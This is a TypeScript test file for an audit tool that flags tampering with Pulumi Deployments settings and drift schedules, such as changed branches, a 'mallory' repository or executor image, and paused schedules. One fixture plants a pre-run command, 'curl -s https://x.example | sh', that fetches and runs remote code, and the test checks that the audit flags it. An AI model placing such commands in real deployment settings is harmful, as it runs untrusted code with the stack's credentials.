/**
 * Pulumi Deployments settings and drift schedules (issue 25): each drift, made in the API's own
 * terms on the spec-driven fake (test/support/specFake.ts), is reported once by the command with
 * its severity and exit code; the clean organization gives nothing above info. Settings on a
 * `trigger: api` stack are compared with the GitHub App's triggers off.
 */
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import * as path from "node:path";
import { parse } from "yaml";
import { AuditReport } from "../../audit/audit";
import { compareAccess, LiveDeployment } from "../../audit/compare";
import { impliedDeployments } from "../../audit/compare/implied";
import { SpecFake, Wire } from "../support/specFake";
import {
  AUDIT_ARGS,
  DEPLOYER,
  Doc,
  expectDrift,
  modelOf,
  Mutable,
  notInfo,
  Org,
  ROOT,
  runAudit,
  startFake,
  useCloud,
} from "./harness";

const start = (mutate?: (o: Org) => void): SpecFake => startFake(mutate);

/** The wire `DeploymentSettings` of a stack (its `gitHub` block as `vcs`). */
const settingsOf = (o: Org, stack: string): Wire & { gitHub: Wire; sourceContext: Wire } => {
  const s = o.deployments.get(stack)?.settings;
  if (!s) throw new Error(`no settings on ${stack}`);
  return s as Wire & { gitHub: Wire; sourceContext: Wire };
};
const PROD = "web/production";

interface Case {
  what: string;
  mutate: (o: Org) => void;
  expect: string[];
}

const CASES: Case[] = [
  {
    what: "a protected stack deployed from another branch",
    mutate: (o) => ((settingsOf(o, PROD).sourceContext.git as Wire).branch = "refs/heads/feature"),
    expect: [`high deployment-settings-changed stack:${PROD} sourceContext.git.branch`],
  },
  {
    what: "another repository",
    mutate: (o) => (settingsOf(o, PROD).gitHub.repository = "mallory/web-app"),
    expect: [`high deployment-settings-changed stack:${PROD} vcs.repository`],
  },
  {
    what: "deployed on any tag",
    mutate: (o) => {
      settingsOf(o, PROD).gitHub.deployTags = true;
      settingsOf(o, PROD).gitHub.tagFilters = ["*"];
    },
    expect: [
      `high deployment-settings-changed stack:${PROD} vcs.deployTags`,
      `high deployment-settings-changed stack:${PROD} vcs.tagFilters`,
    ],
  },
  {
    what: "previews of pull requests (their code runs with the stack's credentials)",
    mutate: (o) => (settingsOf(o, PROD).gitHub.previewPullRequests = true),
    expect: [`high deployment-settings-changed stack:${PROD} vcs.previewPullRequests`],
  },
  {
    what: "a review-stack template",
    mutate: (o) => (settingsOf(o, PROD).gitHub.pullRequestTemplate = true),
    expect: [`high deployment-settings-changed stack:${PROD} vcs.pullRequestTemplate`],
  },
  {
    what: "a pre-run command",
    mutate: (o) =>
      (settingsOf(o, PROD).operationContext = {
        preRunCommands: ["curl -s https://x.example | sh"],
      }),
    expect: [`high deployment-settings-changed stack:${PROD} operationContext.preRunCommands`],
  },
  {
    what: "a custom executor image",
    mutate: (o) =>
      (settingsOf(o, PROD).executorContext = {
        executorImage: { reference: "ghcr.io/mallory/pulumi:latest" },
      }),
    expect: [`high deployment-settings-changed stack:${PROD} executorContext.executorImage`],
  },
  {
    what: "a self-hosted agent pool",
    mutate: (o) => (settingsOf(o, PROD).agentPoolID = "pool-123"),
    expect: [`high deployment-settings-changed stack:${PROD} agentPoolID`],
  },
  {
    what: "wider path filters (same branch): medium",
    mutate: (o) => (settingsOf(o, PROD).gitHub.paths = ["**"]),
    expect: [`medium deployment-settings-changed stack:${PROD} vcs.paths`],
  },
  {
    what: "pushes no longer deployed (narrower): medium",
    mutate: (o) => (settingsOf(o, PROD).gitHub.deployCommits = false),
    expect: [`medium deployment-settings-changed stack:${PROD} vcs.deployCommits`],
  },
  {
    what: "another branch on an unprotected tier: medium",
    mutate: (o) =>
      ((settingsOf(o, "web/staging").sourceContext.git as Wire).branch = "refs/heads/x"),
    expect: ["medium deployment-settings-changed stack:web/staging sourceContext.git.branch"],
  },
  {
    what: "settings deleted",
    mutate: (o) => delete (o.deployments.get(PROD) as { settings?: Wire }).settings,
    expect: [`medium deployment-settings-missing stack:${PROD}`],
  },
  {
    what: "settings added to a protected stack that deploys from GitHub Actions",
    mutate: (o) =>
      ((o.deployments.get("payments/prod") as { settings?: Wire }).settings = {
        sourceContext: { git: { branch: "refs/heads/main" } },
        gitHub: { repository: "acme/payments-infra", deployCommits: true },
      }),
    expect: ["high deployment-settings-changed stack:payments/prod"],
  },
  {
    what: "the drift schedule deleted",
    mutate: (o) => ((o.deployments.get(PROD) as { schedules: Wire[] }).schedules = []),
    expect: [`medium drift-schedule-missing stack:${PROD} drift`],
  },
  {
    what: "the drift schedule paused",
    mutate: (o) => ((o.deployments.get(PROD) as { schedules: Wire[] }).schedules[0].paused = true),
    expect: [`medium drift-schedule-changed stack:${PROD} drift paused`],
  },
  {
    what: "the drift schedule on another cron",
    mutate: (o) =>
      ((o.deployments.get(PROD) as { schedules: Wire[] }).schedules[0].scheduleCron = "0 0 1 1 *"),
    expect: [`medium drift-schedule-changed stack:${PROD} drift scheduleCron`],
  },
];

describe("audit: Pulumi Deployments settings and drift schedules", () => {
  useCloud();

  it("a clean organization: nothing above info, exit 0, every read on the spec", async () => {
    const fake = start();
    const run = await runAudit(AUDIT_ARGS);
    assert.equal(run.code, 0, run.stderr);
    assert.deepEqual(notInfo(run.report as AuditReport), []);
    assert.deepEqual(fake.violations, []);
    assert.ok(fake.operations.includes("GetDeploymentSettings"));
    assert.ok(fake.operations.includes("ListScheduledDeployment"));
  });

  it("the repository's letter case is not drift (GitHub names are case-insensitive)", async () => {
    start((o) => (settingsOf(o, PROD).gitHub.repository = "ACME/Web-App"));
    const run = await runAudit(AUDIT_ARGS);
    assert.deepEqual(notInfo(run.report as AuditReport), []);
  });

  for (const c of CASES)
    it(`${c.what}: ${c.expect.join(", ")}`, async () => {
      const fake = start(c.mutate);
      const r = await expectDrift(fake, c.expect);
      assert.equal(r.summary.exitCode, c.expect.some((e) => e.startsWith("high ")) ? 1 : 0);
    });

  it("trigger: api: the GitHub App deploying pushes or previewing pull requests is high", () => {
    const doc = parse(readFileSync(path.join(ROOT, "Pulumi.multi-ci.yaml"), "utf8")) as Doc;
    const m = modelOf(doc);
    const api = m.pipelines.find((p) => p.trigger === "api" && p.protected);
    assert.ok(api, "the multi-CI example has a protected trigger: api stack");
    const only = (deployments: LiveDeployment[]) =>
      compareAccess(
        m,
        { organization: m.organization, deployments, notCovered: [] },
        {
          deployer: DEPLOYER,
        },
      )
        .findings.filter((f) => f.code.startsWith("deployment-") || f.code.startsWith("drift-"))
        .map((f) => `${f.severity} ${f.code} ${f.subject}`);
    assert.deepEqual(only(impliedDeployments(m)), []);
    const key = `${api.project}/${api.stack}`;
    const drifted = JSON.parse(JSON.stringify(impliedDeployments(m))) as Mutable[];
    const d = drifted.find((x) => `${x.project}/${x.stack}` === key);
    assert.ok(d?.settings);
    assert.equal(d.settings.deployCommits, false);
    assert.equal(d.settings.previewPullRequests, false);
    d.settings.deployCommits = true;
    d.settings.previewPullRequests = true;
    assert.deepEqual(only(drifted).sort(), [
      `high deployment-settings-changed stack:${key} vcs.deployCommits`,
      `high deployment-settings-changed stack:${key} vcs.previewPullRequests`,
    ]);
  });
});
